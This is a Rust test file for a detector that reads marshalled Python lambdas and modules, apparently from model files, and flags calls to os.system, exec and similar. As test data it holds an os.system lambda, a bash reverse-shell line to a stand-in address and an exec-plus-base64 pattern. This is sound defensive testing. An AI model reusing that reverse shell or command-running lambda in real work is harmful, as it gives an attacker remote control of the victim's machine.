use base64::Engine;

use super::*;
use crate::core::testing::with_inspection;

/// `lambda x: __import__('os').system('touch marker') or x` and
/// `lambda x, k=2: [y**k for y in x] and sum(x, {'a': 1.5, …}['a'])`, marshalled by each Python.
const SAMPLES: &str = include_str!("tests/lambdas.txt");

fn samples() -> Vec<(&'static str, Vec<u8>, Vec<u8>)> {
    let decode = |text: &str| base64::engine::general_purpose::STANDARD.decode(text).unwrap();
    SAMPLES
        .lines()
        .map(|line| {
            let mut parts = line.split(' ');
            let version = parts.next().unwrap();
            (version, decode(parts.next().unwrap()), decode(parts.next().unwrap()))
        })
        .collect()
}

#[test]
fn reads_code_of_every_python() {
    for (version, dangerous, harmless) in samples() {
        let code = read(&dangerous).unwrap_or_else(|| panic!("{version}"));
        assert_eq!(code.name, "<lambda>", "{version}");
        assert_eq!(code.names, ["__import__", "system"], "{version}");
        assert!(code.texts.iter().any(|t| t == "touch marker"), "{version}: {:?}", code.texts);
        let code = read(&harmless).unwrap_or_else(|| panic!("{version}"));
        assert!(code.names.starts_with(&["sum".into()]), "{version}: {:?}", code.names);
    }
}

#[test]
fn says_what_dangerous_code_reaches_for_and_leaves_tensors_alone() {
    for (version, dangerous, harmless) in samples() {
        assert!(judge::judge(&read(&harmless).unwrap()).is_none(), "{version}");
        let shown = judge::judge(&read(&dangerous).unwrap()).unwrap().to_string();
        assert!(shown.contains("`system`") && shown.contains("`__import__`"), "{version}: {shown}");
        with_inspection(|ctx| assert!(inspect(ctx, &dangerous, "test"), "{version}"));
    }
}

#[test]
fn finds_names_that_hide_among_constants() {
    let code = Code { names: vec!["getattr".into(), "tf".into()], texts: vec!["system".into()], ..Code::default() };
    assert!(judge::judge(&code).is_some());
    let code = Code { names: vec!["tf".into()], texts: vec!["system".into()], ..Code::default() };
    assert!(judge::judge(&code).is_none());
}

#[test]
fn other_streams_hold_no_code() {
    for bytes in [&b""[..], b"N", b"c", b"\xe3", b"plain text", b"(\xff\xff\xff\xff", b"[\x01\x00\x00\x00i"] {
        assert!(read(bytes).is_none());
    }
}

#[test]
fn nesting_and_damage_end_quietly() {
    assert!(read(&[&b")\x01".repeat(100_000)[..], b"c"].concat()).is_none());
    for (_, sample, _) in samples() {
        for at in 0..sample.len() {
            let _ = read(&sample[..at]);
            for value in [0, b'c', b'r', b'{', 0x7f, 0xff] {
                let mut damaged = sample.clone();
                damaged[at] = value;
                let _ = read(&damaged);
            }
        }
    }
}

#[test]
fn modules_may_do_more_than_functions() {
    let module = |names: &[&str], texts: &[&str]| Code {
        name: "<module>".into(),
        names: names.iter().map(|n| (*n).into()).collect(),
        texts: texts.iter().map(|t| (*t).into()).collect(),
        ..Code::default()
    };
    assert!(judge::judge_module(&module(&["os", "system", "open", "exec"], &["ls"])).is_none());
    assert!(judge::judge_module(&module(&["os", "system"], &["bash -i >& /dev/tcp/192.0.2.1/1 0>&1"])).is_some());
    let packed = "QUJD".repeat(40);
    assert!(judge::judge_module(&module(&["exec", "b64decode"], &[&packed])).is_some());
    assert!(judge::judge_module(&module(&["b64decode"], &[&packed])).is_none());
}
